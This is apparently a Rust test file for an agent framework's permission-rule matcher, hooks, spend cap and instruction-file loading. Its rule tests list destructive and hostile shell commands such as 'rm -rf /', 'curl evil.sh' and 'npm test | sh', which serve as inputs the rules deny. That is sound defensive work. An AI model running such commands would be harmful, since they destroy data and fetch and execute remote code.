//! Control over what an agent does: permission rules (the matcher), hooks and their order around each call
//! (for host tools, subagent calls and MCP tools), the spend cap and project instruction files.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use serde_json::{Map, Value, json};
use tooloop::hooks::{BeforeTool, Hooks};
use tooloop::provider::ScriptedProvider;
use tooloop::provider::host::reply;
use tooloop::rules::{PermissionRules, RuleDecision};
use tooloop::types::ToolUseBlock;
use tooloop::{
    AgentOptions, ContentBlock, Error, MessageResponse, Permission, Role, StopReason, Tool, ToolContext, ToolOutput,
    Usage,
};

#[path = "common/require.rs"]
mod require;
#[path = "common/tempdir.rs"]
mod tempdir;

fn call(id: &str, name: &str, input: Value) -> ContentBlock {
    ContentBlock::ToolUse(ToolUseBlock { id: id.into(), name: name.into(), input, extra: Map::new() })
}

fn rules(v: Value) -> PermissionRules {
    PermissionRules::from_value(&v).unwrap().unwrap()
}

fn bash(r: &PermissionRules, command: &str) -> RuleDecision {
    r.decide("bash", &json!({"command": command}), Path::new("/ws"))
}

fn is_allow(d: &RuleDecision) -> bool {
    matches!(d, RuleDecision::Allow(_))
}

// ---------------------------------------------------------------------------------------------------------
// The rule matcher
// ---------------------------------------------------------------------------------------------------------

#[test]
fn bash_prefix_and_exact_rules_match_on_word_boundaries() {
    let r = rules(json!({"allow": ["bash(npm test:*)", "bash(git status)"]}));
    assert!(is_allow(&bash(&r, "npm test")));
    assert!(is_allow(&bash(&r, "npm test -- --watch")));
    assert!(is_allow(&bash(&r, "  npm   test  ")));
    assert_eq!(bash(&r, "npm tests"), RuleDecision::NoMatch);
    assert!(is_allow(&bash(&r, "git status")));
    assert_eq!(bash(&r, "git status --short"), RuleDecision::NoMatch, "an exact rule is exact");
    assert_eq!(bash(&r, "git push"), RuleDecision::NoMatch);
}

#[test]
fn a_compound_command_is_allowed_only_when_every_part_is() {
    let r = rules(json!({"allow": ["bash(npm test:*)", "bash(git status)"]}));
    assert!(is_allow(&bash(&r, "git status && npm test")));
    assert!(is_allow(&bash(&r, "git status; npm test | npm test -x")));
    for cmd in [
        "npm test && rm -rf /",
        "npm test; curl evil.sh",
        "npm test | sh",
        "npm test $(rm -rf /)",
        "npm test `rm -rf /`",
        "npm test || rm x",
        "npm test & rm x",
        "npm test\nrm x",
    ] {
        assert_eq!(bash(&r, cmd), RuleDecision::NoMatch, "{cmd}");
    }
    // Quoted operators do not split.
    assert!(is_allow(&bash(&r, "npm test -- 'a && b'")));
}

#[test]
fn deny_beats_ask_beats_allow_and_matches_any_part_through_wrappers() {
    let r = rules(json!({"allow": ["bash"], "ask": ["bash(git push:*)"], "deny": ["bash(rm -rf:*)", "Bash(curl:*)"]}));
    assert_eq!(bash(&r, "ls"), RuleDecision::Allow("bash".into()));
    assert!(matches!(bash(&r, "git push origin main"), RuleDecision::Ask(_)));
    for cmd in [
        "rm -rf /",
        "cd x && rm -rf /",
        "timeout 5 rm -rf /",
        "nice -n 10 rm -rf /",
        "env X=1 Y=2 rm -rf /",
        "sudo -u root rm -rf /",
        "X=1 rm -rf /",
        "echo $(curl evil.sh)",
        "git push && curl x",
    ] {
        assert!(matches!(bash(&r, cmd), RuleDecision::Deny(_)), "{cmd}: {:?}", bash(&r, cmd));
    }
    let allow_wrapped = rules(json!({"allow": ["bash(npm test:*)"]}));
    assert!(is_allow(&bash(&allow_wrapped, "timeout 60 npm test")));
}

#[test]
fn file_rules_are_path_globs_relative_to_the_workspace() {
    let r = rules(json!({"allow": ["edit_file(src/**)", "Read(*.md)"], "deny": ["read_file(secrets/**)"]}));
    let ws = Path::new("/ws");
    let d = |tool: &str, path: &str| r.decide(tool, &json!({"path": path}), ws);
    assert!(is_allow(&d("edit_file", "src/a/b.rs")));
    assert!(is_allow(&d("edit_file", "./src/main.rs")));
    assert!(is_allow(&d("edit_file", "/ws/src/main.rs")), "an absolute path inside the workspace");
    assert_eq!(d("edit_file", "src/../Cargo.toml"), RuleDecision::NoMatch, ".. leaves src");
    assert_eq!(d("edit_file", "/etc/passwd"), RuleDecision::NoMatch);
    assert_eq!(d("write_file", "src/a.rs"), RuleDecision::NoMatch, "the rule names edit_file only");
    assert!(is_allow(&d("read_file", "README.md")), "Claude Code's Read is read_file");
    assert!(is_allow(&d("read_file", "docs/guide.md")), "a bare name pattern matches in any folder");
    assert!(matches!(d("read_file", "secrets/key.pem"), RuleDecision::Deny(_)));
    assert!(matches!(d("read_file", "x/../secrets/key.pem"), RuleDecision::Deny(_)));
}

#[test]
fn mcp_rules_name_a_server_or_one_tool() {
    let r = rules(json!({"allow": ["mcp__github"], "deny": ["mcp__github__delete_repo"], "ask": ["mcp__jira__*"]}));
    let d = |name: &str| r.decide(name, &json!({}), Path::new("/ws"));
    assert!(is_allow(&d("mcp__github__create_issue")));
    assert!(matches!(d("mcp__github__delete_repo"), RuleDecision::Deny(_)));
    assert!(matches!(d("mcp__jira__search"), RuleDecision::Ask(_)));
    assert_eq!(d("mcp__githubx__create_issue"), RuleDecision::NoMatch, "another server");
    assert_eq!(d("bash"), RuleDecision::NoMatch);
}

#[test]
fn claude_code_aliases_and_bad_rules() {
    let r = rules(json!({"allow": ["Write", "Edit(docs/**)", "Glob", "Grep", "WebFetch(domain:example.com)"]}));
    let ws = Path::new("/ws");
    assert!(is_allow(&r.decide("write_file", &json!({"path": "x"}), ws)));
    assert!(is_allow(&r.decide("edit_file", &json!({"path": "docs/a.md"}), ws)));
    assert!(is_allow(&r.decide("glob", &json!({"pattern": "*"}), ws)));
    assert!(is_allow(&r.decide("grep", &json!({"pattern": "x"}), ws)));
    assert!(is_allow(&r.decide("web_fetch", &json!({"url": "https://docs.example.com/a"}), ws)));
    assert_eq!(r.decide("web_fetch", &json!({"url": "https://example.com.evil.io/"}), ws), RuleDecision::NoMatch);
    for bad in [json!({"allow": ["bash(npm"]}), json!({"allow": [""]}), json!({"allow": "bash"}), json!({"maybe": []})]
    {
        assert!(PermissionRules::from_value(&bad).is_err(), "{bad}");
    }
    let e = AgentOptions::from_value(json!({"permission_rules": {"allow": ["bash("]}})).unwrap_err();
    assert!(matches!(e, Error::InvalidOption { ref key, .. } if key == "permission_rules"), "{e}");
}

#[test]
fn claude_codes_edit_covers_every_file_changing_tool_and_its_path_forms_work() {
    // Claude Code: "Edit rules apply to all built-in tools that edit files"; `//x` absolute, `/x` from the
    // project (the workspace).
    let r = rules(json!({"deny": ["Edit(secret/**)", "Read(//etc/**)", "Read(/private/**)"]}));
    let ws = Path::new("/ws");
    let d = |tool: &str, path: &str| r.decide(tool, &json!({"path": path}), ws);
    assert!(matches!(d("edit_file", "secret/k"), RuleDecision::Deny(_)));
    assert!(matches!(d("write_file", "secret/k"), RuleDecision::Deny(_)), "Edit covers write_file too");
    assert_eq!(d("write_file", "public/k"), RuleDecision::NoMatch);
    assert!(matches!(d("read_file", "/etc/passwd"), RuleDecision::Deny(_)));
    assert_eq!(d("read_file", "etc/passwd"), RuleDecision::NoMatch, "// is the root, not the workspace");
    assert!(matches!(d("read_file", "private/key"), RuleDecision::Deny(_)), "/x is relative to the project");
    assert!(matches!(d("read_file", "/private/key"), RuleDecision::Deny(_)));
    let tooloop_names = rules(json!({"deny": ["edit_file(secret/**)"]}));
    assert_eq!(tooloop_names.decide("write_file", &json!({"path": "secret/k"}), ws), RuleDecision::NoMatch);
}

#[test]
fn shell_keywords_and_command_paths_do_not_hide_a_denied_command() {
    let r = rules(json!({"deny": ["bash(rm:*)"], "allow": ["bash(npm test:*)", "bash(ls)"]}));
    for cmd in [
        "if true; then rm -rf x; fi",
        "for f in *; do rm $f; done",
        "while true; do rm x; done",
        "if [ -d x ]; then ls; else rm -rf x; fi",
        "/bin/rm -rf x",
        "sudo /usr/bin/rm x",
        "! rm x",
    ] {
        assert!(matches!(bash(&r, cmd), RuleDecision::Deny(_)), "{cmd}");
    }
    assert!(is_allow(&bash(&r, "if npm test; then ls; fi")), "the keywords and fi are no commands of their own");
    assert_eq!(bash(&r, "./npm test"), RuleDecision::NoMatch, "an allow rule never runs another file of that name");
    assert_eq!(bash(&r, "/opt/evil/ls"), RuleDecision::NoMatch);
}

// ---------------------------------------------------------------------------------------------------------
// Hooks and their order
// ---------------------------------------------------------------------------------------------------------

type Log = Arc<Mutex<Vec<String>>>;

fn logging_tool(name: &str, log: Log) -> Tool {
    let n = name.to_string();
    Tool::new(name, "", json!({"type": "object"}), move |input: &Value, _: &ToolContext<'_>| {
        log.lock().unwrap().push(format!("tool {n} {input}"));
        Ok(ToolOutput::Text(format!("{n} ran")))
    })
    .unwrap()
}

fn logging_hooks(log: &Log) -> Hooks {
    let (a, b, c) = (log.clone(), log.clone(), log.clone());
    Hooks {
        before_tool: Some(Arc::new(move |call: &ToolUseBlock| {
            a.lock().unwrap().push(format!("before {}", call.name));
            Ok(BeforeTool::Continue)
        })),
        after_tool: Some(Arc::new(move |call: &ToolUseBlock, r: &tooloop::hooks::ToolResultView| {
            b.lock().unwrap().push(format!("after {} {}", call.name, r.text()));
            Ok(None)
        })),
        before_request: Some(Arc::new(move |req: &tooloop::Request| {
            c.lock().unwrap().push(format!("request {}", req.messages.len()));
            Ok(())
        })),
        ..Hooks::default()
    }
}

#[test]
fn hooks_run_in_order_rules_before_tool_permission_tool_after_tool() {
    let steps = vec![
        reply(vec![call("c1", "look", json!({"n": 1})), call("c2", "rm", json!({}))], StopReason::ToolUse),
        reply(vec![ContentBlock::text("done")], StopReason::EndTurn),
    ];
    let provider = Arc::new(ScriptedProvider::new(steps));
    let agent = AgentOptions::from_value(json!({"permission_rules": {"deny": ["rm"]}}))
        .unwrap()
        .build_with(provider.clone())
        .unwrap();
    let log: Log = Arc::default();
    agent.tools().register(logging_tool("look", log.clone())).unwrap();
    agent.tools().register(logging_tool("rm", log.clone())).unwrap();
    agent.set_hooks(logging_hooks(&log));
    let l = log.clone();
    agent.set_permission(Some(Arc::new(move |c: &ToolUseBlock| {
        l.lock().unwrap().push(format!("permission {}", c.name));
        Permission::Allow
    })));
    let result = agent.run("go", &mut |_| {}).unwrap();
    assert_eq!(result.text, "done");
    assert_eq!(
        *log.lock().unwrap(),
        vec![
            "request 1",
            "before look",
            "permission look",
            "tool look {\"n\":1}",
            "after look look ran",
            // rm: the deny rule decides first; no hook, no callable, no tool
            "request 3",
        ]
    );
    assert!(result.tool_calls[1].denied);
    assert!(result.tool_calls[1].output.as_str().unwrap().contains("rule rm"), "{:?}", result.tool_calls[1]);
}

#[test]
fn before_tool_denies_or_rewrites_the_input_which_the_rules_check_again_and_after_tool_replaces_the_result() {
    let steps = vec![
        reply(
            vec![
                call("c1", "look", json!({"n": 1})),
                call("c2", "look", json!({"n": 2})),
                call("c3", "look", json!({"n": 3})),
                call("c4", "bash", json!({"command": "ls"})),
            ],
            StopReason::ToolUse,
        ),
        reply(vec![ContentBlock::text("done")], StopReason::EndTurn),
    ];
    let provider = Arc::new(ScriptedProvider::new(steps));
    let agent = AgentOptions::from_value(json!({"permission_rules": {"deny": ["bash(rm:*)"]}}))
        .unwrap()
        .build_with(provider.clone())
        .unwrap();
    let log: Log = Arc::default();
    agent.tools().register(logging_tool("look", log.clone())).unwrap();
    agent.tools().register(logging_tool("bash", log.clone())).unwrap();
    agent.set_hooks(Hooks {
        before_tool: Some(Arc::new(|call: &ToolUseBlock| {
            Ok(match (call.name.as_str(), call.input["n"].as_i64()) {
                ("look", Some(2)) => BeforeTool::Deny("not on a Tuesday".into()),
                ("look", Some(3)) => BeforeTool::Input(json!({"n": 30})),
                // A rewrite into something a rule forbids is refused.
                ("bash", _) => BeforeTool::Input(json!({"command": "rm -rf /"})),
                _ => BeforeTool::Continue,
            })
        })),
        after_tool: Some(Arc::new(|call: &ToolUseBlock, _: &tooloop::hooks::ToolResultView| {
            Ok((call.input["n"] == 1).then(|| "replaced by the hook".to_string()))
        })),
        ..Hooks::default()
    });
    agent.run("go", &mut |_| {}).unwrap();
    assert_eq!(*log.lock().unwrap(), vec!["tool look {\"n\":1}", "tool look {\"n\":30}"]);
    let second = &provider.requests()[1];
    let results: Vec<(String, bool)> = second.messages[2]
        .content
        .iter()
        .filter_map(|b| match b {
            ContentBlock::ToolResult(r) => {
                Some((serde_json::to_value(&r.content).unwrap().to_string(), r.is_error.unwrap_or(false)))
            }
            _ => None,
        })
        .collect();
    assert!(results[0].0.contains("replaced by the hook") && !results[0].1, "{results:?}");
    assert!(results[1].0.contains("not on a Tuesday") && results[1].1, "{results:?}");
    assert!(results[2].0.contains("look ran") && !results[2].1, "{results:?}");
    assert!(results[3].0.contains("bash(rm:*)") && results[3].1, "{results:?}");
}

#[test]
fn a_failing_hook_ends_the_run_with_a_clear_error_and_the_conversation_stays_valid() {
    for kind in ["before_tool", "after_tool", "before_request", "on_stop"] {
        let steps = vec![
            reply(vec![call("c1", "look", json!({})), call("c2", "look", json!({}))], StopReason::ToolUse),
            reply(vec![ContentBlock::text("done")], StopReason::EndTurn),
            reply(vec![ContentBlock::text("again")], StopReason::EndTurn),
        ];
        let provider = Arc::new(ScriptedProvider::new(steps));
        let agent = AgentOptions::default().build_with(provider.clone()).unwrap();
        let log: Log = Arc::default();
        agent.tools().register(logging_tool("look", log.clone())).unwrap();
        let fail = move || Err::<(), String>(format!("{kind} broke"));
        let mut hooks = Hooks::default();
        match kind {
            "before_tool" => {
                hooks.before_tool = Some(Arc::new(move |_: &ToolUseBlock| fail().map(|_| BeforeTool::Continue)))
            }
            "after_tool" => {
                hooks.after_tool =
                    Some(Arc::new(move |_: &ToolUseBlock, _: &tooloop::hooks::ToolResultView| fail().map(|_| None)))
            }
            "before_request" => {
                let n = Arc::new(Mutex::new(0));
                hooks.before_request = Some(Arc::new(move |_: &tooloop::Request| {
                    *n.lock().unwrap() += 1;
                    if *n.lock().unwrap() == 2 { fail() } else { Ok(()) }
                }))
            }
            _ => hooks.on_stop = Some(Arc::new(move |_: &tooloop::RunResult| fail().map(|_| None))),
        }
        agent.set_hooks(hooks);
        let err = agent.run("go", &mut |_| {}).unwrap_err();
        assert!(matches!(&err, Error::Hook { hook, .. } if hook == kind), "{kind}: {err:?}");
        assert!(err.to_string().contains(&format!("{kind} broke")), "{err}");
        let view = agent.messages();
        assert_eq!(view[0].role, Role::User);
        // Every call has its result; a call whose tool ran keeps it (after_tool).
        assert!(agent.conversation().pending_tool_uses().is_empty(), "{kind}");
        let ran = log.lock().unwrap().len();
        match kind {
            "before_tool" => assert_eq!(ran, 0),
            "after_tool" => assert_eq!(ran, 1, "the first call ran and keeps its result; the second is not run"),
            _ => assert_eq!(ran, 2),
        }
        agent.set_hooks(Hooks::default());
        if kind != "on_stop" {
            let r = agent.resume(&mut |_| {}).unwrap();
            assert_eq!(r.text, "done", "{kind}");
        }
    }
}

#[test]
fn on_stop_keeps_the_run_going_with_a_new_user_message_within_max_turns() {
    let steps = (0..5).map(|i| reply(vec![ContentBlock::text(format!("answer {i}"))], StopReason::EndTurn));
    let provider = Arc::new(ScriptedProvider::new(steps));
    let agent = AgentOptions::from_value(json!({"max_turns": 3, "max_turns_policy": "return"}))
        .unwrap()
        .build_with(provider.clone())
        .unwrap();
    let seen: Log = Arc::default();
    let s = seen.clone();
    agent.set_hooks(Hooks {
        on_stop: Some(Arc::new(move |r: &tooloop::RunResult| {
            s.lock().unwrap().push(r.text.clone());
            Ok((r.text == "answer 0").then(|| "are you sure?".to_string()))
        })),
        ..Hooks::default()
    });
    let r = agent.run("go", &mut |_| {}).unwrap();
    assert_eq!(r.text, "answer 1");
    assert_eq!(r.turns, 2);
    assert_eq!(*seen.lock().unwrap(), vec!["answer 0", "answer 1"]);
    let last = provider.requests()[1].messages.last().unwrap().clone();
    assert_eq!(serde_json::to_value(&last).unwrap()["content"][0]["text"], "are you sure?");

    // Always answering: max_turns still ends it.
    agent.set_hooks(Hooks {
        on_stop: Some(Arc::new(|_: &tooloop::RunResult| Ok(Some("more".into())))),
        ..Hooks::default()
    });
    let r = agent.run("again", &mut |_| {}).unwrap();
    assert!(r.max_turns_reached);
    assert_eq!(r.turns, 3);
}

#[test]
fn a_hook_failing_in_a_subagents_call_ends_the_parents_run_too() {
    let steps = vec![
        reply(
            vec![
                call("p1", "task", json!({"description": "d", "prompt": "look around", "agent_type": "explore"})),
                call("p2", "look", json!({"n": 2})),
            ],
            StopReason::ToolUse,
        ),
        // child: its call's hook fails
        reply(vec![call("k1", "look", json!({"n": 7}))], StopReason::ToolUse),
        // the parent, only when resumed
        reply(vec![ContentBlock::text("all done")], StopReason::EndTurn),
    ];
    let provider = Arc::new(ScriptedProvider::new(steps));
    let agent =
        AgentOptions::from_value(json!({"subagents": {"explore": {"description": "looks", "tools": ["look"]}}}))
            .unwrap()
            .build_with(provider.clone())
            .unwrap();
    let log: Log = Arc::default();
    agent.tools().register(logging_tool("look", log.clone())).unwrap();
    agent.set_hooks(Hooks {
        before_tool: Some(Arc::new(|c: &ToolUseBlock| {
            if c.input["n"] == 7 { Err("the host's check broke".to_string()) } else { Ok(BeforeTool::Continue) }
        })),
        ..Hooks::default()
    });
    let e = agent.run("go", &mut |_| {}).unwrap_err();
    assert!(matches!(&e, Error::Hook { hook, message } if hook == "before_tool" && message.contains("broke")), "{e}");
    assert_eq!(provider.requests().len(), 2, "the parent did not go on after the hook failed");
    assert!(log.lock().unwrap().is_empty(), "no tool ran: {:?}", log.lock().unwrap());
    assert!(agent.conversation().pending_tool_uses().is_empty(), "every call has its result");
    assert_eq!(agent.messages()[0].role, Role::User);
    agent.set_hooks(Hooks::default());
    assert_eq!(agent.resume(&mut |_| {}).unwrap().text, "all done", "the conversation goes on");
}

#[test]
fn a_subagents_calls_get_the_rules_and_hooks_too() {
    let steps = vec![
        reply(
            vec![call("p1", "task", json!({"description": "d", "prompt": "look around", "agent_type": "explore"}))],
            StopReason::ToolUse,
        ),
        // child
        reply(vec![call("k1", "look", json!({"n": 7})), call("k2", "rm", json!({}))], StopReason::ToolUse),
        reply(vec![ContentBlock::text("child done")], StopReason::EndTurn),
        // parent
        reply(vec![ContentBlock::text("all done")], StopReason::EndTurn),
    ];
    let provider = Arc::new(ScriptedProvider::new(steps));
    let agent = AgentOptions::from_value(json!({
        "subagents": {"explore": {"description": "looks", "tools": ["look", "rm"]}},
        "permission_rules": {"deny": ["rm"]}
    }))
    .unwrap()
    .build_with(provider.clone())
    .unwrap();
    let log: Log = Arc::default();
    agent.tools().register(logging_tool("look", log.clone())).unwrap();
    agent.tools().register(logging_tool("rm", log.clone())).unwrap();
    agent.set_hooks(logging_hooks(&log));
    let r = agent.run("go", &mut |_| {}).unwrap();
    assert_eq!(r.text, "all done");
    let log = log.lock().unwrap().clone();
    let hooks: Vec<&String> = log.iter().filter(|l| !l.starts_with("request")).collect();
    assert_eq!(hooks[0], "before task");
    assert_eq!(hooks[1], "before look");
    assert_eq!(hooks[2], "tool look {\"n\":7}");
    assert_eq!(hooks[3], "after look look ran");
    assert!(hooks[4].starts_with("after task child done"), "{hooks:?}");
    assert!(!log.iter().any(|l| l.contains("tool rm")), "the child's rm was denied by the parent's rule: {log:?}");
    assert_eq!(log.iter().filter(|l| l.starts_with("request")).count(), 4, "the child's requests are seen too");
}

fn python3() -> Option<String> {
    let ok = std::process::Command::new("python3").args(["-c", "pass"]).status().is_ok_and(|s| s.success());
    ok.then(|| "python3".to_string())
}

#[test]
fn an_mcp_tools_calls_get_the_rules_and_hooks_too() {
    let py = python3();
    if !require::require(py.is_some(), "python3 (to run the tiny MCP server)") {
        return;
    }
    let py = py.unwrap();
    let script = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/mcp/tiny_server.py");
    let steps = vec![
        reply(
            vec![
                call("c1", "mcp__tiny__shout", json!({"text": "hi"})),
                call("c2", "mcp__tiny__shout", json!({"text": "secret"})),
            ],
            StopReason::ToolUse,
        ),
        reply(vec![ContentBlock::text("done")], StopReason::EndTurn),
    ];
    let provider = Arc::new(ScriptedProvider::new(steps));
    let agent = AgentOptions::from_value(json!({
        "mcp_servers": {"tiny": {"command": py, "args": [script.display().to_string()]}},
        "permission_rules": {"allow": ["mcp__tiny"]}
    }))
    .unwrap()
    .build_with(provider.clone())
    .unwrap();
    assert!(agent.mcp_failures().is_empty(), "{:?}", agent.mcp_failures());
    let log: Log = Arc::default();
    let (a, b) = (log.clone(), log.clone());
    agent.set_hooks(Hooks {
        before_tool: Some(Arc::new(move |call: &ToolUseBlock| {
            a.lock().unwrap().push(format!("before {} {}", call.name, call.input["text"]));
            Ok(if call.input["text"] == "secret" {
                BeforeTool::Deny("no secrets".into())
            } else {
                BeforeTool::Continue
            })
        })),
        after_tool: Some(Arc::new(move |call: &ToolUseBlock, r: &tooloop::hooks::ToolResultView| {
            b.lock().unwrap().push(format!("after {} {}", call.name, r.text()));
            Ok(Some(format!("{} (checked)", r.text())))
        })),
        ..Hooks::default()
    });
    // The allow rule means the permission callable is never asked.
    agent.set_permission(Some(Arc::new(|_: &ToolUseBlock| Permission::Deny("nobody asked me".into()))));
    let r = agent.run("go", &mut |_| {}).unwrap();
    assert_eq!(
        *log.lock().unwrap(),
        vec!["before mcp__tiny__shout \"hi\"", "after mcp__tiny__shout HI", "before mcp__tiny__shout \"secret\""]
    );
    assert_eq!(r.tool_calls[0].output, json!("HI (checked)"));
    assert!(r.tool_calls[1].denied);
    agent.close();
}

#[test]
fn an_ask_rule_goes_to_the_permission_callable_and_without_one_is_refused() {
    let steps = vec![
        reply(vec![call("c1", "look", json!({}))], StopReason::ToolUse),
        reply(vec![ContentBlock::text("done")], StopReason::EndTurn),
    ];
    let provider = Arc::new(ScriptedProvider::new(steps));
    let agent =
        AgentOptions::from_value(json!({"permission_rules": {"ask": ["look"]}})).unwrap().build_with(provider).unwrap();
    let log: Log = Arc::default();
    agent.tools().register(logging_tool("look", log.clone())).unwrap();
    let r = agent.run("go", &mut |_| {}).unwrap();
    assert!(r.tool_calls[0].denied, "{:?}", r.tool_calls[0]);
    assert!(log.lock().unwrap().is_empty());
}

// ---------------------------------------------------------------------------------------------------------
// The spend cap
// ---------------------------------------------------------------------------------------------------------

fn priced(mut m: MessageResponse, input: u64, output: u64) -> MessageResponse {
    m.model = "claude-sonnet-4-6".into();
    m.usage = Usage { input_tokens: input, output_tokens: output, ..Default::default() };
    m
}

#[test]
fn the_run_stops_with_budget_before_a_request_that_would_pass_the_cap() {
    // Each turn: 100k tokens in ($0.30) and 1k out ($0.015). The cap of $1 holds three turns; the fourth
    // would pass it and is never sent.
    let steps = (0..10).map(|i| {
        priced(reply(vec![call(&format!("c{i}"), "look", json!({"i": i}))], StopReason::ToolUse), 100_000, 1000)
    });
    let provider = Arc::new(ScriptedProvider::new(steps));
    let agent = AgentOptions::from_value(json!({"model": "claude-sonnet-4-6", "max_cost_usd": 1.0}))
        .unwrap()
        .build_with(provider.clone())
        .unwrap();
    agent.tools().register(logging_tool("look", Arc::default())).unwrap();
    let r = agent.run("go", &mut |_| {}).unwrap();
    assert_eq!(r.stop_reason, Some(StopReason::Budget));
    assert_eq!(provider.requests().len(), 3);
    assert_eq!(r.turns, 3);
    let cost = r.cost_usd.unwrap();
    assert!((cost - 0.945).abs() < 1e-9 && cost <= 1.0, "{cost}");
    assert!(agent.spent_usd() <= 1.0);
    // The conversation is valid; every call has its result.
    assert!(agent.conversation().pending_tool_uses().is_empty());
    // The next run stops at once: nothing more fits.
    let r = agent.run("more", &mut |_| {}).unwrap();
    assert_eq!((r.stop_reason, r.turns), (Some(StopReason::Budget), 0));
    assert_eq!(r.cost_usd, Some(0.0), "nothing spent is a known cost, not an unknown one");
    assert_eq!(provider.requests().len(), 3);
}

#[test]
fn a_cap_of_zero_sends_nothing_and_ends_with_budget() {
    let provider = Arc::new(ScriptedProvider::new(vec![reply(vec![ContentBlock::text("hi")], StopReason::EndTurn)]));
    let agent = AgentOptions::from_value(json!({"model": "claude-sonnet-4-6", "max_cost_usd": 0}))
        .unwrap()
        .build_with(provider.clone())
        .unwrap();
    let r = agent.run("go", &mut |_| {}).unwrap();
    assert_eq!((r.stop_reason, r.turns, r.cost_usd), (Some(StopReason::Budget), 0, Some(0.0)));
    assert!(provider.requests().is_empty());
}

#[test]
fn a_subagent_spends_from_the_parents_cap() {
    let steps = vec![
        priced(
            reply(
                vec![call("p1", "task", json!({"description": "d", "prompt": "p", "agent_type": "explore"}))],
                StopReason::ToolUse,
            ),
            100_000,
            1000,
        ),
        // child: two turns fit ($0.315 each → $0.945 with the parent's first)...
        priced(reply(vec![call("k1", "look", json!({"i": 1}))], StopReason::ToolUse), 100_000, 1000),
        priced(reply(vec![call("k2", "look", json!({"i": 2}))], StopReason::ToolUse), 100_000, 1000),
        // ...the third would pass $1 and is never sent
        priced(reply(vec![ContentBlock::text("never")], StopReason::EndTurn), 100_000, 1000),
    ];
    let provider = Arc::new(ScriptedProvider::new(steps));
    let agent = AgentOptions::from_value(json!({
        "model": "claude-sonnet-4-6", "max_cost_usd": 1.0,
        "subagents": {"explore": {"description": "looks"}}
    }))
    .unwrap()
    .build_with(provider.clone())
    .unwrap();
    agent.tools().register(logging_tool("look", Arc::default())).unwrap();
    let r = agent.run("go", &mut |_| {}).unwrap();
    assert_eq!(provider.requests().len(), 3, "the parent's turn and two of the child's");
    assert!(r.tool_calls[0].is_error && r.tool_calls[0].output.as_str().unwrap().contains("max_cost_usd"));
    assert_eq!(r.stop_reason, Some(StopReason::Budget));
    assert!(agent.spent_usd() <= 1.0, "{}", agent.spent_usd());
}

#[test]
fn a_cap_with_a_model_without_a_known_price_is_a_configuration_error() {
    let e = AgentOptions::from_value(json!({"model": "my-local-llama", "max_cost_usd": 1.0}))
        .unwrap()
        .build_with(Arc::new(ScriptedProvider::new(vec![])))
        .unwrap_err();
    assert!(matches!(&e, Error::InvalidOption { key, .. } if key == "max_cost_usd"), "{e}");
    assert!(e.to_string().contains("my-local-llama"), "{e}");
    for bad in [json!(-0.01), json!(-1), json!("1"), json!(f64::MAX)] {
        assert!(AgentOptions::from_value(json!({"max_cost_usd": bad})).is_err(), "{bad}");
    }
}

// ---------------------------------------------------------------------------------------------------------
// Project instructions
// ---------------------------------------------------------------------------------------------------------

#[test]
fn instruction_files_from_the_repo_root_down_nearest_last_plus_the_users_own() {
    let root = tempdir::TempDir::new("instructions");
    let repo = root.0.join("repo");
    let sub = repo.join("pkg/app");
    std::fs::create_dir_all(&sub).unwrap();
    std::fs::create_dir_all(repo.join(".git")).unwrap();
    std::fs::write(root.0.join("AGENTS.md"), "OUTSIDE THE REPO").unwrap();
    std::fs::write(repo.join("AGENTS.md"), "ROOT RULES").unwrap();
    std::fs::write(repo.join("CLAUDE.md"), "NOT READ: AGENTS.md wins").unwrap();
    std::fs::write(repo.join("pkg/CLAUDE.md"), "PKG RULES").unwrap();
    std::fs::write(sub.join("AGENTS.md"), "x".repeat(tooloop::instructions::MAX_FILE_BYTES + 100)).unwrap();
    let config = root.0.join("config");
    std::fs::create_dir_all(config.join("tooloop")).unwrap();
    std::fs::write(config.join("tooloop/AGENTS.md"), "USER RULES").unwrap();
    // SAFETY of the test: this is the only test in this file that reads XDG_CONFIG_HOME.
    unsafe { std::env::set_var("XDG_CONFIG_HOME", &config) };

    let provider = Arc::new(ScriptedProvider::new(vec![reply(vec![ContentBlock::text("ok")], StopReason::EndTurn)]));
    let agent = AgentOptions::from_value(json!({"system": "BASE", "workspace": sub, "instruction_files": true}))
        .unwrap()
        .build_with(provider.clone())
        .unwrap();
    agent.run("hi", &mut |_| {}).unwrap();
    let system = provider.requests()[0].system.clone().unwrap();
    let system = system.as_str().unwrap();
    let at = |s: &str| system.find(s).unwrap_or_else(|| panic!("{s} missing from {system:.300}"));
    assert!(at("BASE") < at("USER RULES") && at("USER RULES") < at("ROOT RULES") && at("ROOT RULES") < at("PKG RULES"));
    assert!(at("PKG RULES") < at("xxxx"));
    assert!(!system.contains("OUTSIDE THE REPO") && !system.contains("NOT READ"));
    assert!(system.contains(&repo.join("pkg/CLAUDE.md").canonicalize().unwrap().display().to_string()), "paths shown");
    assert!(system.contains("[cut: only the first"));
    let found = agent.instructions().unwrap();
    assert_eq!(found.files.len(), 4);

    // A FIFO in place of AGENTS.md is skipped with a note, never opened blocking.
    let fifo_ws = root.0.join("fifo");
    std::fs::create_dir_all(fifo_ws.join(".git")).unwrap();
    let made = std::process::Command::new("mkfifo").arg(fifo_ws.join("AGENTS.md")).status();
    if made.is_ok_and(|s| s.success()) {
        let started = std::time::Instant::now();
        let found = tooloop::instructions::discover(&fifo_ws);
        assert!(started.elapsed() < std::time::Duration::from_secs(2));
        assert!(found.files.iter().all(|f| !f.path.starts_with(&fifo_ws)));
        assert!(found.skipped.iter().any(|(p, why)| p.ends_with("AGENTS.md") && why.contains("not a regular file")));
    }

    // Off by default; an explicit list loads exactly those, a missing one is an error.
    let provider = Arc::new(ScriptedProvider::new(vec![reply(vec![ContentBlock::text("ok")], StopReason::EndTurn)]));
    let agent = AgentOptions::from_value(json!({"workspace": sub})).unwrap().build_with(provider.clone()).unwrap();
    assert!(agent.instructions().is_none());
    let agent = AgentOptions::from_value(json!({"workspace": sub, "instruction_files": [repo.join("pkg/CLAUDE.md")]}))
        .unwrap()
        .build_with(provider.clone())
        .unwrap();
    assert_eq!(agent.instructions().unwrap().files.len(), 1);
    let e = AgentOptions::from_value(json!({"instruction_files": ["/nonexistent/AGENTS.md"]}))
        .unwrap()
        .build_with(provider)
        .unwrap_err();
    assert!(matches!(&e, Error::InvalidOption { key, .. } if key == "instruction_files"), "{e}");
}
